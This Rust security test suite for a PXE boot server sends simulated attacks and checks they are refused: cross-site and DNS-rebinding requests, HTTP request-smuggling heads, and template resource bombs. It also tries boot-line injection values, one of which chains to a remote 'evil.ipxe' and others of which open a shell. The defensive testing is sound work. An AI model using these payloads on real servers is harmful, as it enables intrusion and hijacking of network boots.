//! The attacks of a stranger on the lab segment and of a web page open in
//! the admin's browser, run against the binary (the release build when the
//! test script sets `GOPXE_TEST_BIN`). Each asserts the safe answer and
//! that nothing changed. docs/security.md's table is this one.
//!
//! All traffic is loopback: a machine's own address is a loopback address
//! the test sends from (`127.0.0.50`), a stranger's another (`127.0.0.9`);
//! with an API token configured, loopback holds no right of its own.
// Test code may unwrap, panic and index (the restriction lints).
#![allow(unreachable_pub, clippy::restriction)]

mod common;

use common::{Gopxe, Resp, done_path, request, request_from, tempdir, wait_until};
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::time::{Duration, Instant};

const TOKEN: &str = "s3cret-token-42";
const BEARER: &str = "Bearer s3cret-token-42";
const MAC: &str = "52:54:00:00:00:07";
const ID: &str = "01-52-54-00-00-00-07";
const HOSTNAME: &str = "web7.lab";
const MACHINE_IP: &str = "127.0.0.50";
const STRANGER_IP: &str = "127.0.0.9";

/// Headers of an API write: JSON, with the token when there is one.
fn json_headers(token: bool) -> Vec<(&'static str, &'static str)> {
    let mut h = vec![("Content-Type", "application/json")];
    if token {
        h.push(("Authorization", BEARER));
    }
    h
}

/// A boot action and a machine at [`MACHINE_IP`].
fn setup(g: &Gopxe, token: bool) {
    let h = json_headers(token);
    let action = br#"{"kernel": "centos/vmlinuz", "initrd": "centos/initrd.img"}"#;
    let r = request(g.port, "POST", "/bootaction/centos", &h, action);
    assert_eq!(r.status, 201, "{}", r.text());
    let m = format!(
        r#"{{"mac": "{MAC}", "bootaction": "centos", "hostname": "{HOSTNAME}",
             "ip": "{MACHINE_IP}", "mask": "255.0.0.0"}}"#
    );
    let r = request(g.port, "POST", "/pxeboot", &h, m.as_bytes());
    assert_eq!(r.status, 201, "{}", r.text());
}

fn state(g: &Gopxe) -> String {
    g.get(&format!("/pxeboot/{ID}")).json()["state"]
        .as_str()
        .unwrap_or("gone")
        .to_string()
}

/// The machine fetches its kickstart from its own address; returns the
/// keyed `done` path it carries.
fn machine_fetches_kickstart(g: &Gopxe) -> String {
    let ks = request_from(
        MACHINE_IP,
        g.port,
        "GET",
        &format!("/kickstart/{ID}"),
        &[],
        b"",
    );
    assert_eq!(ks.status, 200);
    let done = done_path(&ks.text());
    assert!(done.contains("/done?key="), "{done}");
    done
}

fn post(g: &Gopxe, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Resp {
    request(g.port, "POST", path, headers, body)
}

/// Sends raw bytes on one connection and reads until the server closes it
/// (at most 10 s); returns what came back and how long it took.
fn exchange(port: u16, bytes: &[u8]) -> (String, Duration) {
    let start = Instant::now();
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(bytes).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    (String::from_utf8_lossy(&out).into_owned(), start.elapsed())
}

fn statuses(raw: &str) -> Vec<u16> {
    raw.match_indices("HTTP/1.1 ")
        .filter_map(|(i, _)| raw.get(i + 9..i + 12)?.parse().ok())
        .collect()
}

#[test]
fn a_web_page_in_the_admins_browser_changes_nothing() {
    let dir = tempdir("sec-browser");
    // The default: no token, writes from loopback only.
    let g = Gopxe::start(&dir, &[]);
    setup(&g, false);
    let done = machine_fetches_kickstart(&g);
    assert_eq!(post(&g, &done, &[], b"").status, 200);
    assert_eq!(state(&g), "installed");

    // A cross-site request from a tab on the appliance host: what a page
    // can send without a preflight (text/plain, a form post) and what it
    // cannot (JSON) are all refused.
    let cross = [
        ("Origin", "http://evil.example"),
        ("Sec-Fetch-Site", "cross-site"),
        ("Content-Type", "text/plain"),
    ];
    let reinstall = format!("/pxeboot/{ID}/reinstall");
    assert_eq!(post(&g, &reinstall, &cross, b"x").status, 403);
    assert_eq!(post(&g, &reinstall, &cross[..2], b"").status, 403);
    let machine = br#"{"mac": "52:54:00:00:00:08", "bootaction": "centos"}"#;
    assert_eq!(post(&g, "/pxeboot", &cross, machine).status, 403);
    let action = br#"{"kernel": "evil/vmlinuz"}"#;
    assert_eq!(post(&g, "/bootaction/x", &cross, action).status, 403);
    let r = request(g.port, "PUT", "/kstemplate/x", &cross, b"%post\nreboot\n");
    assert_eq!(r.status, 403);
    let form = [
        ("Origin", "null"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let ui_delete = format!("/ui/pxeboot/{ID}/delete");
    assert_eq!(post(&g, &ui_delete, &form, b"a=1").status, 403);
    // Without Origin (an old browser, a plugin): a text/plain body is not
    // JSON, so the JSON routes refuse it.
    let plain = [("Content-Type", "text/plain")];
    assert_eq!(post(&g, "/pxeboot", &plain, machine).status, 415);
    assert_eq!(post(&g, "/bootaction/x", &plain, action).status, 415);
    let formed = [("Content-Type", "application/x-www-form-urlencoded")];
    let r = request(g.port, "PUT", "/kstemplate/x", &formed, b"a=1");
    assert_eq!(r.status, 415);

    // DNS rebinding: the page's own name resolved to the appliance.
    let port = g.port.to_string();
    let evil_host = format!("evil.example:{port}");
    let evil_origin = format!("http://evil.example:{port}");
    let rebound = [
        ("Host", evil_host.as_str()),
        ("Origin", evil_origin.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let (raw, _) = exchange(
        g.port,
        format!(
            "POST /ui/pxeboot/{ID}/reinstall HTTP/1.1\r\nHost: {evil_host}\r\nOrigin: {evil_origin}\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        .as_bytes(),
    );
    assert_eq!(statuses(&raw), [421], "{raw}");
    for (method, path) in [("GET", "/pxeboot"), ("POST", reinstall.as_str())] {
        let (raw, _) = exchange(
            g.port,
            format!(
                "{method} {path} HTTP/1.1\r\nHost: {}\r\nOrigin: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                rebound[0].1, rebound[1].1
            )
            .as_bytes(),
        );
        assert_eq!(statuses(&raw), [421], "{method} {path}: {raw}");
    }

    // Nothing changed.
    assert_eq!(state(&g), "installed");
    assert_eq!(g.get("/bootaction/x").status, 404);
    assert_eq!(g.get("/pxeboot/52:54:00:00:00:08").status, 404);
    assert_eq!(g.get("/kstemplate").json(), serde_json::json!([]));
    // The same reinstall from the admin's own shell works.
    assert_eq!(post(&g, &reinstall, &[], b"").status, 200);
    assert_eq!(state(&g), "install");
}

#[test]
fn only_the_install_can_end_itself() {
    let dir = tempdir("sec-done");
    let g = Gopxe::start(&dir, &["--api-token", TOKEN]);
    setup(&g, true);
    // The open list names machines, never their keys.
    let list = g.get("/pxeboot").text();
    assert!(list.contains(ID) && !list.contains("key"), "{list}");
    // A stranger's done: 409 before the install runs.
    let done = format!("/pxeboot/{ID}/done");
    assert_eq!(post(&g, &done, &[], b"").status, 409);
    // A stranger reads the kickstart: a preview with no key, no change.
    for path in [
        format!("/kickstart/{ID}"),
        format!("/kickstart/?name=default&fqdn={HOSTNAME}"),
    ] {
        let r = request_from(STRANGER_IP, g.port, "GET", &path, &[], b"");
        assert_eq!(r.status, 200, "{path}");
        let text = r.text();
        assert!(text.contains("/done?key=preview"), "{path}: {text}");
        assert_eq!(state(&g), "install", "{path}");
    }
    assert!(
        g.get(&format!("/pxeboot/{ID}/events"))
            .text()
            .contains("preview")
    );
    // The machine's own fetch starts the install and carries its key.
    let keyed = machine_fetches_kickstart(&g);
    assert_eq!(state(&g), "installing");
    // Without the key, with the preview's, with a guessed one: refused.
    assert_eq!(post(&g, &done, &[], b"").status, 403);
    assert_eq!(
        post(&g, &format!("{done}?key=preview"), &[], b"").status,
        400
    );
    let guess = format!("{done}?key={}", "0".repeat(32));
    assert_eq!(post(&g, &guess, &[], b"").status, 403);
    let wget = [("Content-Type", "application/x-www-form-urlencoded")];
    assert_eq!(post(&g, &guess, &wget, b"done").status, 403);
    assert_eq!(state(&g), "installing");
    // With it (as the installer's wget sends it): done. A retry of it (its
    // answer lost) is answered and changes nothing; a guess meets 409.
    assert_eq!(post(&g, &keyed, &wget, b"done").status, 200);
    assert_eq!(state(&g), "installed");
    let updated = || g.get(&format!("/pxeboot/{ID}")).json()["updated_ms"].clone();
    let before = updated();
    assert_eq!(post(&g, &keyed, &[], b"").status, 200);
    assert_eq!((state(&g), updated()), ("installed".to_string(), before));
    assert_eq!(post(&g, &guess, &[], b"").status, 409);
    // A reinstall makes the old key useless.
    let auth = [("Authorization", BEARER)];
    assert_eq!(
        post(&g, &format!("/pxeboot/{ID}/reinstall"), &auth, b"").status,
        200
    );
    let renewed = machine_fetches_kickstart(&g);
    assert_ne!(renewed, keyed);
    assert_eq!(post(&g, &keyed, &[], b"").status, 403);
    // The admin (token) reads the key from anywhere and changes nothing;
    // the token ends an install without it.
    let r = request_from(
        STRANGER_IP,
        g.port,
        "GET",
        &format!("/kickstart/{ID}"),
        &auth,
        b"",
    );
    assert_eq!(done_path(&r.text()), renewed);
    assert_eq!(state(&g), "installing");
    assert_eq!(post(&g, &done, &auth, b"").status, 200);
    assert_eq!(state(&g), "installed");
}

#[test]
fn http_framing_is_strict() {
    let dir = tempdir("sec-framing");
    let g = Gopxe::start(&dir, &[]);
    setup(&g, false);
    let smuggled =
        "DELETE /bootaction/centos HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n";
    // Each head is refused with one answer, the connection is closed, and
    // the DELETE hidden behind it never runs.
    for (framing, status) in [
        ("Transfer-Encoding: chunked\r\nContent-Length: 4", 400),
        ("Content-Length: 4\r\nTransfer-Encoding: chunked", 400),
        ("Transfer-Encoding: chunked", 501),
        ("Transfer-Encoding: identity", 501),
        ("Content-Length: 2\r\nContent-Length: 2", 400),
        ("Content-Length: 2\r\nContent-Length: 90", 400),
        ("Content-Length: -1", 400),
        ("Content-Length: +28", 400),
        ("Content-Length: 0x10", 400),
    ] {
        // The smuggled request behind a chunk terminator, and straight
        // after the head (where a parser that goes on would read it next).
        for tail in [format!("0\r\n\r\n{smuggled}"), smuggled.to_string()] {
            let req = format!(
                "POST /bootaction/other HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n{framing}\r\n\r\n{tail}"
            );
            let (raw, _) = exchange(g.port, req.as_bytes());
            assert_eq!(statuses(&raw), [status], "{framing:?}: {raw}");
            assert_eq!(raw.matches("Connection: close").count(), 1, "{raw}");
            assert_eq!(g.get("/bootaction/centos").status, 200, "{framing:?}");
        }
    }
    // A body over the limit is refused before it is read: one byte of a
    // 1e9-byte body, and the answer comes at once, not after a timeout.
    let (raw, took) = exchange(
        g.port,
        b"POST /pxeboot HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n{",
    );
    assert_eq!(statuses(&raw), [413], "{raw}");
    assert!(raw.contains("Connection: close"));
    assert!(took < Duration::from_secs(5), "413 after {took:?}");
    assert_eq!(g.get("/bootaction/other").status, 404);
    assert_eq!(g.get("/health").status, 200);
}

#[test]
fn the_token_and_loopback_are_read_as_rfc_9110_says() {
    let dir = tempdir("sec-auth");
    let g = Gopxe::start(&dir, &["--api-token", TOKEN]);
    let body = br#"{"kernel": "centos/vmlinuz"}"#;
    let lower = [
        ("Authorization", "bearer s3cret-token-42"),
        ("Content-Type", "application/json"),
    ];
    assert_eq!(post(&g, "/bootaction/a", &lower, body).status, 201);
    let basic = [
        ("Authorization", "Basic s3cret-token-42"),
        ("Content-Type", "application/json"),
    ];
    assert_eq!(post(&g, "/bootaction/b", &basic, body).status, 401);
    let json = [("Content-Type", "application/json")];
    assert_eq!(
        post(&g, "/bootaction/b", &json, body).status,
        401,
        "loopback needs the token"
    );
    drop(g);
    // Dual-stack: an IPv4 client of a `[::]` listener is ::ffff:127.0.0.1,
    // which is loopback.
    let dir = tempdir("sec-mapped");
    let g = Gopxe::start(
        &dir,
        &["--http-listen", "[::]:0", "--advertise-addr", "127.0.0.1"],
    );
    assert_eq!(
        post(&g, "/bootaction/a", &json, body).status,
        201,
        "{}",
        g.log_text()
    );
}

#[test]
fn admin_templates_are_bounded() {
    let dir = tempdir("sec-templates");
    let g = Gopxe::start(&dir, &[]);
    setup(&g, false);
    let text = [("Content-Type", "text/plain")];
    let put = |name: &str, src: &str| {
        request(
            g.port,
            "PUT",
            &format!("/kstemplate/{name}"),
            &text,
            src.as_bytes(),
        )
    };
    let loops = "{% for a in fqdn %}{% for b in fqdn %}{% for c in fqdn %}{% for d in fqdn %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}";
    let r = put("loops", loops);
    assert_eq!(r.status, 400);
    assert!(r.text().contains("template_fuel"), "{}", r.text());
    let r = put(
        "big",
        r#"{% set a="x"*1000 %}{% set b=a*1000 %}{{ b*100 }}"#,
    );
    assert_eq!(r.status, 400);
    assert!(r.text().contains("template_max_bytes"), "{}", r.text());
    // One that is heavy only for one `os` passes the upload check (the
    // longest values skip it) and is stopped at boot time, where an
    // anonymous GET picks the `os` and a 100-character FQDN.
    let sneaky = format!("{{% if os == \"sneaky\" %}}{loops}{{% endif %}}ok");
    let r = put("sneaky", &sneaky);
    assert_eq!(r.status, 201, "{}", r.text());
    let fqdn = format!("{}.{}.lab", "a".repeat(60), "b".repeat(35));
    let path = format!("/kickstart/?name=sneaky&os=sneaky&fqdn={fqdn}");
    let port = g.port;
    let fetches = std::thread::spawn(move || {
        (0..4)
            .map(|_| request_from(STRANGER_IP, port, "GET", &path, &[], b""))
            .collect::<Vec<_>>()
    });
    // The appliance keeps answering while they run.
    let mut slowest = Duration::ZERO;
    while !fetches.is_finished() {
        let t = Instant::now();
        assert_eq!(g.get("/health").status, 200);
        slowest = slowest.max(t.elapsed());
    }
    for r in fetches.join().unwrap() {
        assert_eq!(r.status, 500);
        assert!(r.text().contains("template_fuel"), "{}", r.text());
    }
    assert!(slowest < Duration::from_secs(1), "/health took {slowest:?}");
    assert_eq!(state(&g), "install");
}

#[test]
fn boot_lines_refuse_injection() {
    let dir = tempdir("sec-bootline");
    let g = Gopxe::start(&dir, &[]);
    let json = [("Content-Type", "application/json")];
    let long = format!(r#"{{"kernel": "k", "append": "{}"}}"#, "a=b ".repeat(3800));
    for (body, field) in [
        (
            r#"{"kernel": "k", "menu": "x ; chain http://198.51.100.9/evil.ipxe ; echo"}"#
                .to_string(),
            "menu",
        ),
        (
            r#"{"kernel": "k", "append": "console=ttyS0 || shell"}"#.into(),
            "append",
        ),
        (
            r#"{"kernel": "k", "append": "quiet # ks=lost"}"#.into(),
            "append",
        ),
        (
            r#"{"kernel": "k", "append": "ip=${net0/ip}"}"#.into(),
            "append",
        ),
        (r#"{"kernel": "k", "ip": "dhcp && shell"}"#.into(), "ip"),
        (long, "append"),
    ] {
        let r = post(&g, "/bootaction/evil", &json, body.as_bytes());
        assert_eq!(
            (r.status, r.json()["field"].as_str()),
            (400, Some(field)),
            "{}",
            &body[..body.len().min(80)]
        );
    }
    assert_eq!(g.get("/bootaction/evil").status, 404);
}

#[test]
fn secrets_need_the_token() {
    let dir = tempdir("sec-secrets");
    let g = Gopxe::start(
        &dir,
        &[
            "--api-token",
            TOKEN,
            "--webhook",
            "http://127.0.0.1:9/hook?key=webhook-secret",
        ],
    );
    setup(&g, true);
    let auth = [("Authorization", BEARER), ("Content-Type", "text/plain")];
    let tmpl = b"rootpw --iscrypted $6$salt$hash\n";
    let r = request(g.port, "PUT", "/kstemplate/mine", &auth, tmpl);
    assert_eq!(r.status, 201);
    // The template holds a password hash: reading it needs the token.
    assert_eq!(g.get("/kstemplate/mine").status, 401);
    assert_eq!(
        request(g.port, "GET", "/kstemplate/mine", &auth[..1], b"").body,
        tmpl
    );
    // The webhook's key and password reach neither the log nor the page.
    assert!(wait_until(Duration::from_secs(5), || g
        .log_text()
        .contains("webhook")));
    let page = request(g.port, "GET", "/", &[("Accept", "text/html")], b"").text();
    for secret in ["webhook-secret", TOKEN] {
        assert!(!page.contains(secret), "{secret} on the status page");
        assert!(!g.log_text().contains(secret), "{secret} in the log");
    }
    // `check-config` says the secrets are set without printing them.
    let out = std::process::Command::new(common::bin())
        .args([
            "check-config",
            "--api-token",
            TOKEN,
            "--installer-password-hash",
        ])
        .arg("$6$salt$hash")
        .args(["--webhook", "http://127.0.0.1:9/hook?key=webhook-secret"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && text.contains("not shown"), "{text}");
    for secret in ["webhook-secret", TOKEN, "$6$salt$hash"] {
        assert!(!text.contains(secret), "{secret} in check-config: {text}");
    }
}

#[test]
fn files_that_are_not_files_and_tftp_slots() {
    let dir = tempdir("sec-files");
    std::fs::create_dir_all(dir.join("images")).unwrap();
    rustix::fs::mkfifoat(
        rustix::fs::CWD,
        dir.join("images/fifo"),
        rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR,
    )
    .unwrap();
    std::fs::write(dir.join("images/loader"), vec![7u8; 100_000]).unwrap();
    let g = Gopxe::start(&dir, &["--tftp-max-per-client", "2"]);
    // A FIFO over HTTP: refused at once, the appliance keeps answering.
    let t = Instant::now();
    assert_eq!(g.get("/images/fifo").status, 403);
    assert!(t.elapsed() < Duration::from_secs(5));
    assert_eq!(g.get("/health").status, 200);
    assert!(wait_until(Duration::from_secs(5), || g
        .log_text()
        .contains("not a regular file")));
    // One address cannot take every TFTP slot: never-acked requests past
    // the per-client cap are refused, another address is still served.
    let port = g.announced_port("tftp").expect("tftp port");
    let rrq = b"\x00\x01loader\x00octet\x00";
    let mut held = Vec::new();
    let first = |s: &UdpSocket| {
        let mut buf = [0u8; 600];
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let n = s.recv(&mut buf).unwrap_or(0);
        buf[..n.min(4)].to_vec()
    };
    for _ in 0..2 {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.send_to(rrq, ("127.0.0.1", port)).unwrap();
        let mut buf = [0u8; 600];
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let (n, from) = s.recv_from(&mut buf).unwrap();
        assert_eq!(&buf[..4.min(n)], [0, 3, 0, 1], "DATA block 1");
        held.push((s, from));
    }
    let third = UdpSocket::bind("127.0.0.1:0").unwrap();
    third.send_to(rrq, ("127.0.0.1", port)).unwrap();
    assert_eq!(
        first(&third),
        [0, 5, 0, 0],
        "error: too many from one address"
    );
    let other = UdpSocket::bind("127.0.0.2:0").unwrap();
    other.send_to(rrq, ("127.0.0.1", port)).unwrap();
    assert_eq!(first(&other), [0, 3, 0, 1], "another address is served");
}
